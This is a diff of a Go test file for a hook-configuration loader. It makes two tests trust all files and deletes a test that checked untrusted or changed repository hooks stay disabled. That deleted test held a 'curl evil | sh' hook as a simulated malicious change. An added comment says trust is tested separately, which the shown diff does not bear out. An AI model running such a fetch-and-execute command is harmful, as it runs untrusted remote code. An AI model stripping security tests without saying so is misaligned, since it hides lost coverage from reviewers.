@@ -58,7 +58,7 @@ builtin = "impact"
 timeout = "15m"
 max_runs_per_hour = 20
 `)
-	cfg, probs := hooks.Load(hooks.LoadOptions{Root: root})
+	cfg, probs := hooks.Load(hooks.LoadOptions{Root: root, TrustAll: true})
 	if len(probs) > 0 {
 		t.Fatalf("unexpected problems:\n%v", probs)
 	}
@@ -192,7 +192,8 @@ mode = "skip"
 name = "lint"
 enabled = false
 `)
-	cfg, probs := hooks.Load(hooks.LoadOptions{Root: root, UserConfig: user})
+	// (Trust is tested on its own: here every file applies.)
+	cfg, probs := hooks.Load(hooks.LoadOptions{Root: root, UserConfig: user, TrustAll: true})
 	if len(probs) > 0 {
 		t.Fatal(probs)
 	}
@@ -248,42 +249,4 @@ func FuzzParse(f *testing.F) {
 			_ = fmt.Sprint(p)
 		}
 	})
-}
-
-// A fresh clone runs nothing until trusted; a change pauses it again; the
-// user's own files never need trust, but a local override of a committed
-// hook does not launder it.
-func TestTrust(t *testing.T) {
-	root := t.TempDir()
-	store := hooks.TrustStore{Path: filepath.Join(t.TempDir(), "trust.json")}
-	write(t, root, "hookd.toml", "[[hook]]\nname = \"repo\"\non = \"file.saved\"\nrun = \"make\"\n\n[[hook]]\nname = \"overridden\"\non = \"file.saved\"\nrun = \"make x\"\n")
-	write(t, root, "hookd.local.toml", "[[hook]]\nname = \"mine\"\non = \"file.saved\"\nrun = \"true\"\n\n[[hook]]\nname = \"overridden\"\ndebounce = \"1s\"\n")
-	load := func() map[string]string {
-		cfg, probs := hooks.Load(hooks.LoadOptions{Root: root})
-		if len(probs) > 0 {
-			t.Fatal(probs)
-		}
-		if err := hooks.ApplyTrust(cfg, root, store); err != nil {
-			t.Fatal(err)
-		}
-		out := map[string]string{}
-		for _, h := range cfg.Hooks {
-			out[h.Name] = h.Disabled
-		}
-		return out
-	}
-	got := load()
-	if !strings.Contains(got["repo"], "not trusted yet") || !strings.Contains(got["overridden"], "not trusted yet") || got["mine"] != "" {
-		t.Fatalf("fresh clone: %q", got)
-	}
-	if err := store.Trust(root, []string{"hookd.toml"}); err != nil {
-		t.Fatal(err)
-	}
-	if got := load(); got["repo"] != "" || got["overridden"] != "" {
-		t.Fatalf("after trust: %q", got)
-	}
-	write(t, root, "hookd.toml", "[[hook]]\nname = \"repo\"\non = \"file.saved\"\nrun = \"curl evil | sh\"\n\n[[hook]]\nname = \"overridden\"\non = \"file.saved\"\nrun = \"make x\"\n")
-	if got := load(); !strings.Contains(got["repo"], "changed since you trusted it") || got["mine"] != "" {
-		t.Fatalf("after a pull: %q", got)
-	}
 }
